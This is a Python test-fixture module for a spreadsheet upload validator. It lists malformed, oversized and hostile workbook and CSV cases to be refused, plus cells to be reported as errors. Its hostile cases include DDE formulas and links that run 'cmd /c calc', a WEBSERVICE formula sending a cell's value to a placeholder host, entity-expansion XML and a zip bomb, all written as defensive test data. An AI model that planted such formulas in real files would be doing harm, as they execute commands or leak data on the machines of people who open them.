"""Files that must be refused as a whole, and cells that must be told as errors."""

from __future__ import annotations

from typing import Any

from tests.workbooks.passing import COLUMNS, LEDGER, ROWS, ledger
from tests.workbooks.writing import (
    Case,
    Formula,
    Sheet,
    Shown,
    changed,
    compound,
    lying,
    parts_of,
    sheet_xml,
    with_sheet,
    workbook,
    zipped,
)

_PLAIN = workbook(Sheet("平台", [LEDGER, *ROWS]))
_SHEET = "xl/worksheets/sheet1.xml"
_TYPES = "[Content_Types].xml"


def refused(name: str, content: bytes, code: str) -> Case:
    """A file that is refused as a whole."""
    return Case(name, content, {"refused": code})


def with_part(name: str, content: bytes = b"<x/>") -> bytes:
    """Return an ordinary workbook with one more part."""
    return zipped(parts_of(_PLAIN) | {name: content})


def kinds() -> list[Case]:
    """What is no workbook, or one of another kind."""
    old = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
    binary = {name: part for name, part in parts_of(_PLAIN).items() if name != "xl/workbook.xml"}
    binary[_TYPES] = binary[_TYPES].replace(b"sheet.main+xml", b"sheet.binary.main")
    macro = changed(
        _PLAIN,
        _TYPES,
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    page = "<html><body><table><tr><td>编号</td></tr></table></body></html>"
    return [
        refused("empty.xlsx", b"", "empty"),
        refused("old.xls", compound("Workbook"), "old_xls"),
        refused("old_named_xlsx.xlsx", compound("Workbook"), "old_xls"),
        refused("password.xlsx", compound("EncryptedPackage", "EncryptionInfo"), "password"),
        refused("pdf.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n%%EOF", "not_a_table"),
        refused("picture.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "not_a_table"),
        refused("web_page.xls", page.encode(), "web_page"),
        refused("text.xlsx", "编号,名称\n1,2\n".encode(), "renamed"),
        refused("letter.docx", "编号,名称\n1,2\n".encode(), "not_a_table"),
        refused(
            "document.xlsx",
            zipped({_TYPES: b"<Types/>", "word/document.xml": b"<x/>"}),
            "not_a_table",
        ),
        refused("open_document.xlsx", zipped(old), "other_spreadsheet"),
        refused("binary.xlsb", zipped({**binary, "xl/workbook.bin": b"\0"}), "binary_workbook"),
        refused("macro_type.xlsm", macro, "macros"),
        refused("macros.xlsx", with_part("xl/vbaProject.bin", b"\0"), "macros"),
        refused("macro_sheet.xlsx", with_part("xl/macrosheets/sheet1.xml"), "macros"),
    ]


def hostile() -> list[Case]:
    """What would run, reach out or burst."""
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    entities = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    cells = "".join('<c t="s"><v>0</v></c>' for _place in range(100))
    text = b"<sst><si><t>" + "长".encode() * 40_000 + b"</t></si></sst>"
    formula = workbook(
        Sheet("平台", [LEDGER, ["P1", Formula("=cmd|'/c calc'!A0", 1), "上城区", "市级"]])
    )
    service = workbook(Sheet("平台", [LEDGER, ["P1", Formula('=WEBSERVICE("http://x/"&A1)', 1)]]))
    return [
        refused("dde_link.xlsx", with_part("xl/externalLinks/externalLink1.xml", dde), "dde"),
        refused("dde_formula.xlsx", formula, "dde"),
        refused("web_service.xlsx", service, "dde"),
        refused("embedded.xlsx", with_part("xl/embeddings/oleObject1.bin", b"\0"), "embedded"),
        refused("controls.xlsx", with_part("xl/activeX/activeX1.xml"), "embedded"),
        refused("connections.xlsx", with_part("xl/connections.xml"), "connections"),
        refused("bomb.xlsx", with_part("xl/media/a.xml", b"<a>" + b" " * 30_000_000), "bomb"),
        refused("lying_size.xlsx", lying(_PLAIN, _SHEET, sheet_xml("<row/>" * 9_000), 500), "bomb"),
        refused("entities.xlsx", with_sheet(entities + sheet_xml("")[38:]), "entities"),
        refused(
            "entities_in_list.xlsx",
            changed(_PLAIN, "xl/workbook.xml", b"<workbook", entities[21:] + b"<workbook"),
            "entities",
        ),
        refused("cut_off.xlsx", _PLAIN[: len(_PLAIN) // 2], "damaged"),
        refused("twice_the_same_part.xlsx", zipped(parts_of(_PLAIN), (_SHEET, b"<x/>")), "damaged"),
        refused("broken_xml.xlsx", with_sheet(sheet_xml("<row><c><v>1</row>")), "damaged"),
        refused(
            "no_such_text.xlsx",
            with_sheet(sheet_xml('<row r="1"><c r="A1" t="s"><v>99</v></c></row>')),
            "damaged",
        ),
        refused(
            "long_texts.xlsx",
            with_sheet(sheet_xml(f"<row>{cells}</row>" * 100), **{"xl__sharedStrings.xml": text}),
            "text_length",
        ),
    ]


def sizes() -> list[Case]:
    """What is more than the limits allow."""
    far_row = sheet_xml('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')
    far_cell = sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="150000"><c r="GR150000"><v>1</v></c></row>'
    )
    wide = sheet_xml("<row>" + "<c><v>1</v></c>" * 201 + "</row>")
    return [
        refused(
            "51_sheets.xlsx",
            workbook(*(Sheet(f"表{at}", [["编号"]]) for at in range(51))),
            "sheets",
        ),
        refused("201_columns.xlsx", with_sheet(wide), "columns"),
        refused("last_row.xlsx", with_sheet(far_row), "rows"),
        refused("far_cell.xlsx", with_sheet(far_cell), "cells"),
        refused("no_cells.xlsx", with_sheet(sheet_xml("")), "no_sheets"),
        refused("201_columns.csv", ("1," * 201 + "1\n").encode(), "columns"),
    ]


def texts() -> list[Case]:
    """CSV files that cannot be read to their end."""
    lines = "编号,平台名称,所属区县\nP1,望江,上城区\nP2,清波,上城区\n"
    return [
        refused("open_quote.csv", lines.replace("P2,清波", 'P2,"清波').encode(), "open_quote"),
        refused("bad_quote.csv", lines.replace("P2,清波", 'P2,"清"波').encode(), "bad_quote"),
        refused("bad_encoding.csv", lines.encode() + b"P3,\xff\xfe\xff,x\n", "encoding"),
        refused("binary.csv", b"a,b\n\0\0\0,1\n", "encoding"),
        refused("blank.csv", b"\xef\xbb\xbf\n\n", "empty"),
    ]


def _column(name: str, heading: str, values: list[Any], column: str, codes: list[str]) -> Case:
    rows = [[*row, value] for row, value in zip(ROWS * 3, values, strict=False)]
    problems = {f"E{at}": [code] for at, code in enumerate(codes, start=2) if code}
    return ledger(
        name,
        workbook(Sheet("平台", [[*LEDGER, heading], *rows])),
        columns={**COLUMNS, "E": column},
        rows=len(rows),
        problems=problems,
        certain=None,  # type: ignore[arg-type]  # Wrong cells may raise a doubt or not.
    )


def cells() -> list[Case]:
    """Cells that are errors, each of its kind."""
    return [
        _column(
            "areas.xlsx",
            "批准面积",
            [
                "约5",
                -1,
                "1.2万",
                "5-6",
                "很大",
                1.23456,
                "100亩",
                Shown(0.6, "0%"),
                Formula("=1/0", "#DIV/0!"),
            ],
            "approved_area",
            [
                "approximate",
                "negative",
                "ten_thousands",
                "range",
                "not_a_number",
                "decimals",
                "area_not_exact",
                "share",
                "formula_failed",
            ],
        ),
        _column(
            "dates.xlsx",
            "设立日期",
            [
                "2010-02-30",
                "2010年5月",
                "2010",
                "3/5/2010",
                "去年",
                "10.5.3",
                1.5,
                "不详",
                "2010-05-03",
            ],
            "established_on",
            [
                "no_such_day",
                "day_missing",
                "day_missing",
                "date_ambiguous",
                "not_a_date",
                "date_ambiguous",
                "not_a_date",
                "taken_as_empty",
            ],
        ),
        _column(
            "words.xlsx",
            "是否占位",
            ["也许", "是", "大概", "否"],
            "placeholder",
            ["not_yes_no", "", "not_yes_no", ""],
        ),
        _column(
            "formulas.xlsx",
            "管理面积",
            [Formula("=A1"), Formula("=[1]表1!A1", 7), Formula("=VLOOKUP(A2,B:C,2)", "#N/A"), 3],
            "managed_area",
            ["formula_not_computed", "formula_outside", "formula_failed", ""],
        ),
        ledger(
            "levels.xlsx",
            workbook(
                Sheet(
                    "平台",
                    [
                        LEDGER,
                        *(
                            [*row[:3], word]
                            for row, word in zip(
                                ROWS, ["国家级开发区", "National", "乡镇级", "省级"], strict=True
                            )
                        ),
                    ],
                )
            ),
            problems={"D2": ["not_a_choice"], "D4": ["not_a_choice"]},
            cells={"3": {"level": "national"}},
            certain=True,
        ),
        ledger(
            "counts.xlsx",
            workbook(
                Sheet(
                    "人员",
                    [
                        ["机构编号", "人员类别", "核定编制", "实有人数"],
                        ["B1-001", "行政", 2.5, "约5"],
                        ["B1-001", "事业", -3, "20余人"],
                        ["B1-001", "编外", "1.2万", "3亩"],
                        ["B1-002", "行政", Shown(0.5, "0%"), Shown(43830, "yyyy-mm-dd")],
                        ["B1-002", "事业", 3_000_000_000, "五"],
                        ["B1-002", "编外", Formula("=1/0", "#DIV/0!"), "5+2"],
                    ],
                )
            ),
            template="staff",
            subject="staff",
            sheet="人员",
            columns={"A": "body", "B": "category", "C": "authorised", "D": "on_post"},
            rows=6,
            certain=None,  # type: ignore[arg-type]
            problems={
                "C2": ["fraction"],
                "D2": ["approximate"],
                "C3": ["negative"],
                "D3": ["approximate"],
                "C4": ["ten_thousands"],
                "D4": ["other_unit"],
                "C5": ["share"],
                "D5": ["date_for_number"],
                "C6": ["too_large"],
                "D6": ["not_a_count"],
                "C7": ["formula_failed"],
                "D7": ["not_a_count"],
            },
        ),
        ledger(
            "codes.xlsx",
            workbook(
                Sheet(
                    "机构",
                    [
                        ["机构编号", "机构名称", "区县", "统一社会信用代码"],
                        [Formula('="B"&1', "B1"), "上城管委会", "上城区", 123456789012345678],
                        ["B330102-02", "望江管委会", "上城区", "1.23457E+17"],
                        ["B330102-03", "清波管委会", "上城区", "11330102000000000X"],
                    ],
                )
            ),
            template="bodies",
            subject="bodies",
            sheet="机构",
            columns={"A": "code", "B": "name", "C": "division", "D": "uscc"},
            rows=3,
            certain=None,  # type: ignore[arg-type]
            problems={"A2": ["formula_in_code"], "D2": ["digits_lost"], "D3": ["digits_lost"]},
        ),
        ledger(
            "too_many_cells.csv",
            "编号,名称,区县,级别\nP330102-01,望江,上城区,市级\nP330102-02,清波,上城区,市级,1,234\n".encode(),
            sheet="too_many_cells",
            rows=2,
            problems={"E3": ["more_cells"], "F3": ["more_cells"]},
        ),
        ledger(
            "two_tables.xlsx",
            workbook(
                Sheet(
                    "平台",
                    [
                        LEDGER,
                        *ROWS,
                        [],
                        ["机构名称", "机构规格", "内设机构数"],
                        ["上城管委会", "正处级", 8],
                    ],
                )
            ),
            skipped={"7": "other_table"},
            problems={},
        ),
        ledger(
            "merged.xlsx",
            workbook(
                Sheet(
                    "人员",
                    [
                        ["机构编号", "人员类别", "核定编制", "实有人数"],
                        ["B330102-01", "行政", 12, 11],
                        ["", "事业", "", 9],
                        ["", "编外", 7, ""],
                    ],
                    merges=("A2:A4", "C2:C3", "C4:D4"),
                )
            ),
            template="staff",
            subject="staff",
            sheet="人员",
            columns={"A": "body", "B": "category", "C": "authorised", "D": "on_post"},
            rows=3,
            cells={"3": {"body": "B330102-01"}},
            problems={"A3": ["merged_value"], "C3": ["merged_number"], "D4": ["merged_across"]},
        ),
    ]


def cases() -> list[Case]:
    """Return every file that must be refused or has errors."""
    return [*kinds(), *hostile(), *sizes(), *texts(), *cells()]
